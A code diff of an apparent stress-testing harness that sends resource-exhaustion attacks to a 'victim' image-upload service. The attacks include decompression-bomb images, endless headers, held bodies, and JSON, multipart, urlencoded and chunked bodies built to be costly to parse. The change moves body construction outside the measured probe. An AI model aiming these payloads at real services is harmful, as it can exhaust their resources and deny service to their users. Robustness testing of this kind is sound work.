@@ -4,7 +4,7 @@ import json
 import random
 import socket
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 from contextlib import ExitStack, suppress
 from dataclasses import dataclass
 
@@ -65,6 +65,8 @@ def attacks(photograph: bytes) -> list[Attack]:
         costly.many_strips(5_000_000),
         costly.float_tiff(7_000, 7_000),
     ]
+    # The probes share this process, so nothing is built while it is watched.
+    bodies = _costly_bodies(photograph)
     return [
         Attack("32 WebP of 12 MP in one request", lambda victim: victim.send(album)),
         Attack("12 blank PNGs of 50 MP in one request", lambda victim: victim.send(blank)),
@@ -78,7 +80,7 @@ def attacks(photograph: bytes) -> list[Attack]:
         Attack("endless header, 100 MiB", lambda victim: [_endless_header(victim, 100)]),
         Attack("30 unfinished bodies of 20 MiB", lambda victim: _held_bodies(victim, 30, 20)),
         Attack("malformed requests", _malformed),
-        Attack("bodies that cost much to parse", lambda victim: _costly_to_parse(victim, photograph)),
+        Attack("bodies that cost much to parse", lambda victim: _costly_to_parse(victim, bodies)),
         Attack("2 lists of 20,000 new labels", lambda victim: _new_labels(victim, photograph), ours=True),
     ]
 
@@ -119,18 +121,22 @@ def _malformed(victim: Victim) -> list[Answer]:
     return raw + [victim.post(victim.path, content=each, headers=headers) for each in _ODD_JSON]
 
 
-def _costly_to_parse(victim: Victim, photograph: bytes) -> list[Answer]:
+def _costly_bodies(photograph: bytes) -> list[tuple[str, bytes]]:
+    """Content types and bodies."""
     labels = 10_000 * b'--B\r\ncontent-disposition: form-data; name="labels"\r\n\r\nx\r\n'
     image = (
         b'--B\r\ncontent-disposition: form-data; name="image"; filename="a"\r\n\r\n' + photograph + b"\r\n"
     )
     keys = b",".join(b'"%d":0' % number for number in range(1_000_000))
-    bodies = (
+    return [
         ("application/json", b'{"images":[' + 15_000_000 * b"0," + b"0]}"),
         ("application/json", b"{" + keys + b"}"),
         ("multipart/form-data; boundary=B", image + labels + b"--B--\r\n"),
         ("application/x-www-form-urlencoded", 30_000_000 * b"&"),
-    )
+    ]
+
+
+def _costly_to_parse(victim: Victim, bodies: Sequence[tuple[str, bytes]]) -> list[Answer]:
     sent = [victim.post(victim.path, content=body, headers={"content-type": kind}) for kind, body in bodies]
     chunks = victim.head + b"transfer-encoding: chunked\r\n\r\n" + 200_000 * b"1\r\na\r\n" + b"0\r\n\r\n"
     return [*sent, _raw(victim, lambda connection: connection.sendall(chunks))]
